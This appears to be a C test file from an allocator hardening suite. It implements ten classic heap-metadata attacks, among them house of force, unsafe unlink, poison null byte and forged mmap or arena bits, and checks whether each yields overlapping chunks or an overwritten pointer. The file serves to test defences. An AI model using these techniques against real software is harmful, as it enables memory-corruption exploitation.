// SPDX-License-Identifier: MIT
/*
 * An overflow or underflow changes the header that many allocators keep before each
 * object. The goal: objects that overlap, or a changed pointer of the program (Faults
 * B34).
 */
#include "attack.h"

#define CACHED 7
#define LARGE ((size_t)1 << 20)

/*
 * A live object whose size field was increased goes to a list of larger objects when it is freed.
 */
static bool live_size_grown(void)
{
	char *first = take(24), *second = take(24), *victim = take(24);

	(void)first;
	put_size(second, 0x61);
	drop(second);
	return is_given(victim, 24, 0x58, 64);
}

/* The same with a free object; known as overlapping chunks. */
static bool free_size_grown(void)
{
	char *first = take(0x500), *second = take(0x500), *victim = take(0x80);

	take(0x80);
	(void)first;
	drop(second);
	put_size(second, (0x510 + 0x90) | 1);
	return is_given(victim, 0x80, 0x510 + 0x80, 4);
}

static bool large_size_grown(void)
{
	char *first = take(0x500), *second = take(0x500), *victim = take(0x500);

	take(0x80);
	(void)first;
	put_size(second, (0x510 + 0x510) | 1);
	drop(second);
	return is_given(victim, 0x500, 0xa10, 4);
}

/* Known as poison null byte and house of einherjar: one zero byte is written after the end. */
static bool null_byte(void)
{
	char *cached[CACHED];
	uint64_t *fake = take(0x38);
	char *victim = take(0x28), *last = take(0xf8);
	uint64_t distance = (uintptr_t)last - 16 - (uintptr_t)fake;

	for (int i = 0; i < CACHED; i++)
		cached[i] = take(0xf8);
	for (int i = 0; i < CACHED; i++)
		drop(cached[i]);
	if (distance > 4096)
		return false;
	fake[1] = distance;
	fake[2] = (uintptr_t)fake;
	fake[3] = (uintptr_t)fake;
	memcpy(victim + 0x20, &distance, sizeof(distance));
	victim[0x28] = 0;
	drop(last);
	return is_given(victim, 0x28, 0x158, 4);
}

/* Known as unsafe unlink: merging with a fake chunk overwrites a pointer to the chunk. */
static bool merge_with_fake(void)
{
	static uint64_t *held;
	uint64_t *before, *next;

	held = take(0x420);
	before = held;
	next = take(0x420);
	held[1] = 0x420;
	held[2] = (uintptr_t)(&held - 3);
	held[3] = (uintptr_t)(&held - 2);
	next[-2] = 0x420;
	next[-1] &= ~(uint64_t)1;
	drop(next);
	return *(uint64_t *volatile *)&held != before;
}

/*
 * Known as house of force: the size of the heap's last free part is set to the whole address space.
 */
static bool top_grown(void)
{
	char *object = take(264);

	put_size(object + 272, UINT64_MAX);
	take((uintptr_t)target - (uintptr_t)(object + 272) - 16);
	return reaches_target(264);
}

/* Known as mmap overlapping chunks: unmapping one object also unmaps its neighbour. */
static bool mapped_size_grown(void)
{
	char *first = take(LARGE), *victim = take(LARGE), *object = take(LARGE);

	(void)first;
	if (victim < object)
		return false;
	put_size(object, ((uint64_t *)object)[-1] + (uint64_t)(victim - object));
	drop(object);
	return is_given(victim, LARGE, 3 * LARGE, 1);
}

/* A bit in the header says "mapped", so that free() gives a small object to munmap(). */
static bool mapped_bit_set(void)
{
	char *object = take(4096 - 16), *victim = take(4096 - 16);

	put_size(object, 0x1002);
	drop(object);
	return is_given(victim, 4096 - 16, 4096 - 16, 64);
}

/*
 * A bit in the header says "of another arena", so that free() uses an arena made by the attacker.
 */
static bool arena_bit_set(void)
{
	char *object = take(0x500);

	take(0x20);
	put_size(object, 0x515);
	drop(object);
	return is_given_twice(0x500, 16);
}

/* A linear underflow, which reaches the object's header first. */
static bool underflow(void)
{
	char *first = take(0x100), *object = take(0x100), *victim = take(0x100);

	(void)first;
	memset(object - 16, 0, 16);
	put_size(object, 0x221);
	drop(object);
	return is_given(victim, 0x100, 0x210, 64);
}

static const struct attack attacks[] = {
	ATTACK(live_size_grown),   ATTACK(free_size_grown), ATTACK(large_size_grown),
	ATTACK(null_byte),	   ATTACK(merge_with_fake), ATTACK(top_grown),
	ATTACK(mapped_size_grown), ATTACK(mapped_bit_set),  ATTACK(arena_bit_set),
	ATTACK(underflow),
};

ATTACK_MAIN(attacks)
